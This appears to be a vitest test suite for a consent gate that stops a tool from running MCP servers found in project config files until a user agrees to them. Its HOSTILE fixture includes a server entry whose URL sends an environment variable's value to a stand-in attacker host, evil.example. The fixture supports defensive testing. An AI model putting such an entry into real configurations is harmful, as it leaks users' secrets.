import { cpSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  loadConfig,
  type Config,
  type ConsentRequest,
  type LoadConfigOptions,
} from '../../../src/config/index.ts';
import { listConsents, revokeConsent } from '../../../src/config/consent/review.ts';
import { agreeTo, newUser } from '../support/consent.ts';
import { folderWith, writeTo } from '../support/files.ts';
import { refusalOf } from '../support/loading.ts';

const HOSTILE = {
  mcpServers: {
    evil: { command: 'evil', args: ['${CANARY}'], env: { A: '${CANARY}' }, envFile: '${CANARY}' },
    away: { url: 'http://evil.example/${CANARY}', headers: { 'X-A': '${CANARY}' } },
    unset: { command: 'x', args: ['${NOT_SET}'] },
  },
};
const CANARY = 'the-value-of-the-canary';

interface Project {
  readonly cwd: string;
  readonly file: string;
  readonly env: Record<string, string>;
}

function project(content: string | object = HOSTILE, name = '.mcp.json'): Project {
  const cwd = folderWith({ [name]: content });
  return { cwd, file: join(cwd, name), env: { ...newUser().env, CANARY } };
}

function find({ cwd, env }: Project, options: LoadConfigOptions = {}): Promise<Config> {
  return loadConfig({ cwd, env, ...options });
}

/** What is asked of a program; its answer is yes. */
async function asked(given: Project): Promise<ConsentRequest | undefined> {
  let shown: ConsentRequest | undefined;
  const consent = (request: ConsentRequest): boolean => {
    shown = request;
    return true;
  };
  await find(given, { consent, tolerant: true });
  return shown;
}

describe('a file of a project that was found', () => {
  it('is refused, and nothing of it is expanded', async () => {
    const given = project();
    const error = await refusalOf(find(given));
    expect(error.message).toBe(
      `The configuration "${given.file}" was found, and nobody has agreed to what it would run: nothing in it is expanded, ` +
        'started or connected to. Look at it and agree with "plenum trust", give the option "consent", or give its path.',
    );
    expect(error.data).toEqual({ consent: { file: given.file, reason: 'new' } });
    expect(error.advice).toEqual([{ do: 'agree', file: given.file }]);
    // An error of expansion would name the variable that is not set.
    expect(JSON.stringify(error)).not.toMatch(/NOT_SET|CANARY|canary/);
  });

  it('asks for no value, and for no choice among its servers', async () => {
    const given = project({ ...HOSTILE, inputs: [{ id: 'a', type: 'promptString' }] });
    const calls: string[] = [];
    const prompt = (): string => String(calls.push('prompt'));
    const only = (): boolean => calls.push('only') > 0;
    await refusalOf(find(given, { prompt, only, tolerant: true }));
    expect(calls).toEqual([]);
  });

  it.each(['plenum.json', '.mcp.json', 'mcp.json', '.vscode/mcp.json', '.cursor/mcp.json'])(
    'whatever its name: %s',
    async (name) => {
      const { data } = await refusalOf(find(project(HOSTILE, name)));
      expect(data).toMatchObject({ consent: { reason: 'new' } });
    },
  );

  it('in a folder above', async () => {
    const given = project();
    const cwd = join(given.cwd, 'a/b');
    mkdirSync(cwd, { recursive: true });
    expect((await refusalOf(find({ ...given, cwd }))).data).toEqual({
      consent: { file: given.file, reason: 'new' },
    });
  });

  it.each([
    ['no servers', { mcpServers: {} }],
    ['nothing at all', {}],
    ['something else than servers', { mcpServers: [1], servers: 'x' }],
  ])('with %s needs no consent, since there is nothing to run', async (_, content) => {
    const outcome = await find(project(content)).then(
      () => undefined,
      (error: unknown) => error,
    );
    expect(outcome).not.toMatchObject({ data: { consent: expect.anything() } });
  });

  it.each([{ gateway: { instructions: '${CANARY}' } }, { plenum: { naming: '${CANARY}' } }])(
    'without servers but with options needs one: %j',
    async (more) => {
      expect((await refusalOf(find(project({ mcpServers: {}, ...more })))).data).toHaveProperty('consent');
    },
  );

  it('that is no JSON is said to be none, with nothing of what it holds', async () => {
    const { message } = await refusalOf(find(project('{ "mcpServers": ${CANARY} secret')));
    expect(message).toContain('found a word that is not JSON');
    expect(message).not.toMatch(/secret|canary/i);
  });

  it('is taken when it is named, as is any other file', async () => {
    const { file, env } = project();
    expect(Object.keys((await loadConfig({ path: file, env, tolerant: true })).servers)).toEqual(['away']);
  });
});

describe('a stored consent', () => {
  const GOOD = { mcpServers: { desk: { command: 'a', env: { A: '${CANARY}' } } } };

  it('lets the content in that was agreed to, and only that', async () => {
    const given = project(GOOD);
    await agreeTo(given.file, given.env);
    expect((await find(given)).servers).toMatchObject({ desk: { env: { A: CANARY } } });
    writeTo(given.file, { mcpServers: { desk: { command: 'b' } } });
    const error = await refusalOf(find(given));
    expect(error.message).toContain('has changed since it was agreed to');
    expect(error.data).toEqual({ consent: { file: given.file, reason: 'changed' } });
    writeTo(given.file, GOOD);
    await expect(find(given)).resolves.toBeDefined();
    expect(await revokeConsent(given.file, given.env)).toBe(true);
    expect((await refusalOf(find(given))).data).toHaveProperty('consent');
  });

  it('holds when only the layout, comments, the order of names or keys without effect change', async () => {
    const given = project(GOOD);
    await agreeTo(given.file, given.env);
    const text =
      '// a comment\n{ "$schema": "x", "mcpServers": { "desk": {\n "env": { "A": "${CANARY}" }, "command": "a" } }, }';
    writeFileSync(given.file, text);
    await expect(find(given)).resolves.toBeDefined();
  });

  it.each<[string, object]>([
    ['an argument', { mcpServers: { desk: { command: 'a', args: ['x'], env: { A: '${CANARY}' } } } }],
    ['the value of a variable', { mcpServers: { desk: { command: 'a', env: { A: '${CANARY}x' } } } }],
    ['another server', { mcpServers: { ...GOOD.mcpServers, b: { command: 'b' } } }],
    ['the name of a server', { mcpServers: { desk2: GOOD.mcpServers.desk } }],
    ['a folder', { mcpServers: { desk: { ...GOOD.mcpServers.desk, cwd: '..' } } }],
    ['the section', { servers: GOOD.mcpServers }],
    ['a key of an editor', { mcpServers: { desk: { ...GOOD.mcpServers.desk, environment: { B: '1' } } } }],
    ['an option of all', { ...GOOD, plenum: { naming: 'bare' } }],
    ['where a gateway listens', { ...GOOD, gateway: { listen: { port: 1 } } }],
    ['an input', { ...GOOD, inputs: [{ id: 'a', type: 'promptString' }] }],
  ])('does not hold when %s changes', async (_, changed) => {
    const given = project(GOOD);
    await agreeTo(given.file, given.env);
    writeTo(given.file, changed);
    expect((await refusalOf(find(given))).data).toMatchObject({ consent: { reason: 'changed' } });
  });

  it('does not hold after any change of any value', async () => {
    const given = project(GOOD);
    const json = fc.json({ maxDepth: 3, noUnicodeString: false });
    await fc.assert(
      fc.asyncProperty(json, json, async (one, other) => {
        const content = (text: string): string =>
          `{ "mcpServers": { "desk": { "command": "a", "x": ${text} } } }`;
        const isSame = canonical(JSON.parse(one)) === canonical(JSON.parse(other));
        writeFileSync(given.file, content(one));
        await agreeTo(given.file, given.env);
        writeFileSync(given.file, content(other));
        const outcome = await find(given, { tolerant: true }).then(
          () => true,
          ({ data }: { data?: object }) => data === undefined || !('consent' in data),
        );
        expect(outcome).toBe(isSame);
      }),
      { numRuns: 60 },
    );
  });

  it('is for one place: not for a copy, nor for a project that was moved or stands in its place under a link', async () => {
    const given = project(GOOD);
    await agreeTo(given.file, given.env);
    const outer = folderWith();
    cpSync(given.cwd, join(outer, 'copy'), { recursive: true });
    await refusalOf(find({ ...given, cwd: join(outer, 'copy') }));
    symlinkSync(given.cwd, join(outer, 'link'), 'junction');
    await expect(find({ ...given, cwd: join(outer, 'link') })).resolves.toBeDefined();
    rmSync(join(outer, 'link'));
    renameSync(join(outer, 'copy'), join(outer, 'link'));
    await refusalOf(find({ ...given, cwd: join(outer, 'link') }));
  });

  it.skipIf(process.platform === 'win32')(
    'does not hold for a link to the file in another project, whose own files would run',
    async () => {
      const given = project(GOOD);
      await agreeTo(given.file, given.env);
      const other = folderWith();
      symlinkSync(given.file, join(other, '.mcp.json'));
      expect((await refusalOf(find({ ...given, cwd: other }))).data).toMatchObject({
        consent: { reason: 'new' },
      });
    },
  );

  it('does not hold for a link to the folder of an editor in another project', async () => {
    const given = project(GOOD, '.vscode/mcp.json');
    await agreeTo(given.file, given.env);
    const other = folderWith();
    symlinkSync(join(given.cwd, '.vscode'), join(other, '.vscode'), 'junction');
    expect((await refusalOf(find({ ...given, cwd: other }))).data).toMatchObject({
      consent: { reason: 'new' },
    });
  });

  it('does not hold for another file of the same project', async () => {
    const given = project(GOOD, '.mcp.json');
    await agreeTo(given.file, given.env);
    writeTo(join(given.cwd, 'plenum.json'), GOOD);
    expect((await refusalOf(find(given))).data).toHaveProperty('consent');
  });

  it('is not believed when it came with the project', async () => {
    const given = project(GOOD);
    await agreeTo(given.file, given.env);
    const stored = join(given.env['HOME'] ?? '', '.local/share/plenum/trust.json');
    const inside = join(given.cwd, '.data');
    mkdirSync(join(inside, 'plenum'), { recursive: true, mode: 0o700 });
    writeFileSync(join(inside, 'plenum/trust.json'), readFileSync(stored), { mode: 0o600 });
    const env = { ...given.env, XDG_DATA_HOME: inside };
    await refusalOf(find({ ...given, env }));
    await expect(agreeTo(given.file, env)).rejects.toThrow('lies in the project itself');
  });

  it('is asked for again in words when the file of consents is damaged', async () => {
    const given = project(GOOD);
    await agreeTo(given.file, given.env);
    writeFileSync(join(given.env['HOME'] ?? '', '.local/share/plenum/trust.json'), '{');
    expect((await refusalOf(find(given))).message).toContain(
      'is damaged: it is not JSON. Remove it, and agree again.',
    );
  });
});

function canonical(value: unknown): string {
  return JSON.stringify(value, (_, each: unknown) =>
    typeof each === 'object' && each !== null && !Array.isArray(each)
      ? Object.fromEntries(Object.entries(each).toSorted(([a], [b]) => (a < b ? -1 : 1)))
      : each,
  );
}

describe("a file of the user's own", () => {
  const SERVER = { mcpServers: { desk: { command: 'a' } } };
  it.each(['plenum.json', '.mcp.json', 'mcp.json', '.vscode/mcp.json', '.cursor/mcp.json'])(
    'in the home: ~/%s needs no consent',
    async (name) => {
      const { home, env } = newUser();
      writeTo(join(home, name), SERVER);
      mkdirSync(join(home, 'work'));
      expect((await loadConfig({ cwd: join(home, 'work'), env })).path).toBe(join(home, name));
    },
  );

  it('in the folder of settings needs none', async () => {
    const { home, env } = newUser();
    writeTo(join(home, '.config/plenum/plenum.json'), SERVER);
    await expect(loadConfig({ cwd: folderWith(), env })).resolves.toBeDefined();
    await expect(loadConfig({ cwd: join(home, '.config/plenum'), env })).resolves.toBeDefined();
  });

  it.skipIf(process.platform === 'win32')('in a home that is a link needs none', async () => {
    const { home, env } = newUser();
    writeTo(join(home, '.mcp.json'), SERVER);
    const link = join(folderWith(), 'home');
    symlinkSync(home, link);
    await expect(loadConfig({ cwd: home, env: { ...env, HOME: link } })).resolves.toBeDefined();
  });

  it.each(['work', '.github', '.dotfiles', '.vscode/extensions', '.config/other', '.cursor/x'])(
    'is not one in a folder of the home: ~/%s',
    async (folder) => {
      const { home, env } = newUser();
      writeTo(join(home, folder, '.mcp.json'), SERVER);
      expect((await refusalOf(loadConfig({ cwd: join(home, folder), env }))).data).toHaveProperty('consent');
    },
  );

  it('is not found by a home that is a relative path', async () => {
    const cwd = folderWith({ '.mcp.json': SERVER });
    const env = { HOME: '.', USERPROFILE: '.', XDG_DATA_HOME: folderWith() };
    expect((await refusalOf(loadConfig({ cwd, env }))).data).toHaveProperty('consent');
  });
});

describe('the option consent', () => {
  it('true agrees to what the file says now, and keeps nothing', async () => {
    const given = project();
    expect(Object.keys((await find(given, { consent: true, tolerant: true })).servers)).toEqual(['away']);
    await refusalOf(find(given));
    await refusalOf(find(given, { consent: false }));
  });

  it('a function is shown what would run, unexpanded, and can say no', async () => {
    const given = project();
    const shown: ConsentRequest[] = [];
    const consent = (request: ConsentRequest): boolean => shown.push(request) === 0;
    const error = await refusalOf(find(given, { consent }));
    expect(error.message).toContain('was not agreed to');
    expect(error.data).toEqual({ consent: { file: given.file, reason: 'refused' } });
    expect(shown).toEqual([
      {
        path: given.file,
        folder: given.cwd,
        sections: [],
        isReload: false,
        digest: expect.stringMatching(/^[0-9a-f]{64}$/),
        servers: [
          {
            name: 'evil',
            change: 'new',
            disabled: false,
            command: ['evil', '${CANARY}'],
            envFile: '${CANARY}',
            headers: [],
            env: ['A'],
            variables: ['CANARY'],
            others: [],
          },
          {
            name: 'away',
            change: 'new',
            disabled: false,
            url: 'http://evil.example/${CANARY}',
            headers: ['X-A'],
            env: [],
            variables: ['CANARY'],
            others: [],
          },
          {
            name: 'unset',
            change: 'new',
            disabled: false,
            command: ['x', '${NOT_SET}'],
            headers: [],
            env: [],
            variables: ['NOT_SET'],
            others: [],
          },
        ],
      },
    ]);
  });

  it('a yes is for this load, unless it is to be remembered', async () => {
    const given = project({ mcpServers: { desk: { command: 'a' } } });
    await find(given, { consent: async () => true });
    await refusalOf(find(given));
    await find(given, { consent: () => 'remember' });
    await expect(find(given)).resolves.toBeDefined();
    const consent = (): boolean => {
      throw new Error('asked again');
    };
    await expect(find(given, { consent })).resolves.toBeDefined();
    expect(await listConsents(given.env)).toMatchObject([{ path: given.file, state: 'agreed' }]);
  });

  it('an answer that is none is no', async () => {
    const given = project();
    for (const answer of [undefined, null, 1, 'yes', {}])
      expect(
        (await refusalOf(find(given, { consent: (() => answer) as () => boolean }))).data,
      ).toHaveProperty('consent');
  });

  it('what the function throws is the cause of the refusal', async () => {
    const cause = new Error('the window was closed');
    const consent = (): never => {
      throw cause;
    };
    expect((await refusalOf(find(project(), { consent }))).cause).toBe(cause);
  });

  it('is no other value', async () => {
    const consent = 'yes' as unknown as boolean;
    await expect(find(project(), { consent })).rejects.toMatchObject({
      code: 'CONFIG_INVALID',
      data: { option: 'consent' },
    });
  });

  it('what is agreed to is what is used, whatever the file says by then', async () => {
    const given = project({ mcpServers: { desk: { command: 'good' } } });
    const consent = ({ path }: ConsentRequest): 'remember' => {
      writeTo(path, { mcpServers: { desk: { command: 'evil' } } });
      return 'remember';
    };
    expect((await find(given, { consent })).servers).toMatchObject({ desk: { command: 'good' } });
    expect((await refusalOf(find(given))).data).toMatchObject({ consent: { reason: 'changed' } });
  });

  it("a file that was named, or is the user's own, is not asked about", async () => {
    const { file, env } = project();
    const consent = (): boolean => {
      throw new Error('asked');
    };
    await expect(loadConfig({ path: file, env, tolerant: true, consent })).resolves.toBeDefined();
  });
});

describe('what is shown', () => {
  it('tells what has changed since the last consent', async () => {
    const given = project({
      mcpServers: { kept: { command: 'a' }, changed: { command: 'b' }, gone: { command: 'c' } },
      plenum: { naming: 'bare' },
    });
    await agreeTo(given.file, given.env);
    writeTo(given.file, {
      mcpServers: { kept: { command: 'a' }, changed: { command: 'evil' }, fresh: { command: 'd' } },
      plenum: { naming: 'prefixed' },
    });
    const request = await asked(given);
    expect(request?.servers.map(({ name, change }) => [name, change])).toEqual([
      ['fresh', 'new'],
      ['changed', 'changed'],
      ['kept', 'same'],
    ]);
    expect(request?.servers[1]?.beforeLines).toEqual(['runs      b']);
    expect(request?.before).toMatchObject({ removed: ['gone'], agreedAt: expect.stringMatching(/^\d{4}-/) });
    expect(request?.sections).toMatchObject([{ name: 'plenum', change: 'changed' }]);
  });

  it.each<[string, object, string[]]>([
    ['in a default', { url: 'http://a/${A:-${B}}' }, ['A', 'B']],
    ['with env:', { url: 'http://a/${env:A}' }, ['A']],
    [
      'in a header, a proxy and a token',
      { url: 'http://a', headers: { B: '${B}' }, proxy: '${P}', auth: { type: 'bearer', token: '${T}' } },
      ['B', 'P', 'T'],
    ],
    ['that is passed on', { command: 'a', inheritEnv: ['SECRET'] }, ['SECRET']],
    ['all of them', { command: 'a', inheritEnv: true }, ['*']],
    ['where the file sets it: none', { command: 'a', args: ['${A}'], env: { A: 'literal' } }, []],
    ['which extends one of the environment', { command: 'a', env: { PATH: '${PATH}:/x' } }, ['PATH']],
    ['in an escaped reference: none', { command: 'a', args: ['$${A}'] }, []],
    ['in a reference without an end', { command: 'a', args: ['${A'] }, ['A']],
    [
      'in keys of other programs',
      { serverUrl: 'http://a/${A}', requestInit: { headers: { X: '${B}' } } },
      ['A', 'B'],
    ],
    ['in any other option', { command: 'a', type: '${A}' }, ['A']],
    [
      'that are places: none',
      {
        command: 'a',
        cwd: '${workspaceFolder}/${workspaceFolderBasename}',
        env: { H: '${userHome}${pathSeparator}${/}' },
      },
      [],
    ],
    [
      'named like a place, with env:',
      { command: 'a', args: ['${env:workspaceFolder}'] },
      ['workspaceFolder'],
    ],
    ['in the default of a place', { command: 'a', args: ['${userHome:-${A}}'] }, ['A']],
    ['beside a place, in a reference without an end', { command: 'a', args: ['${userHome}${env:A'] }, ['A']],
    [
      'named like a place, in a reference without an end',
      { command: 'a', args: ['${workspaceFolder}${env:userHome'] },
      ['userHome'],
    ],
  ])('variables %s', async (_, server, variables) => {
    const request = await asked(project({ mcpServers: { desk: server } }));
    expect(request?.servers[0]?.variables).toEqual(variables);
  });

  it.each<[string, unknown, object]>([
    ['a command that is a list', { command: ['a', 'b'], args: ['c'] }, { command: ['a', 'b', 'c'] }],
    ['a command line', { command: 'npx -y x', args: 'a b' }, { command: ['npx -y x', 'a b'] }],
    [
      'odd arguments',
      { command: 'a', args: [1, null, { b: 2 }] },
      { command: ['a', '1', 'null', '{"b":2}'] },
    ],
    ['no server at all', 'evil', { name: 'desk', others: [] }],
    ['both', { command: 'a', url: 'http://b' }, { command: ['a'], url: 'http://b' }],
    ['a disabled one', { command: 'a', disabled: true }, { disabled: true }],
    [
      'sign-in',
      { url: 'http://a', auth: { type: 'oauth', clientSecret: 's3cret' } },
      { others: [['auth', 'oauth, clientSecret']] },
    ],
  ])('of %s', async (_, server, shown) => {
    const request = await asked(project({ mcpServers: { desk: server, good: { command: 'x' } } }));
    expect(request?.servers[0]).toMatchObject(shown);
    expect(JSON.stringify(request)).not.toContain('s3cret');
  });

  it('a file with very many servers', async () => {
    const servers = Object.fromEntries(
      Array.from({ length: 5_000 }, (_, index) => [`s${index}`, { command: 'x' }]),
    );
    const given = project({ mcpServers: servers });
    expect((await asked(given))?.servers).toHaveLength(5_000);
    await agreeTo(given.file, given.env);
    expect(
      readFileSync(join(given.env['HOME'] ?? '', '.local/share/plenum/trust.json'), 'utf8').length,
    ).toBeLessThan(1_000);
    writeTo(given.file, { mcpServers: { ...servers, s7: { command: 'evil' } } });
    expect((await refusalOf(find(given))).data).toMatchObject({ consent: { reason: 'changed' } });
  });
});
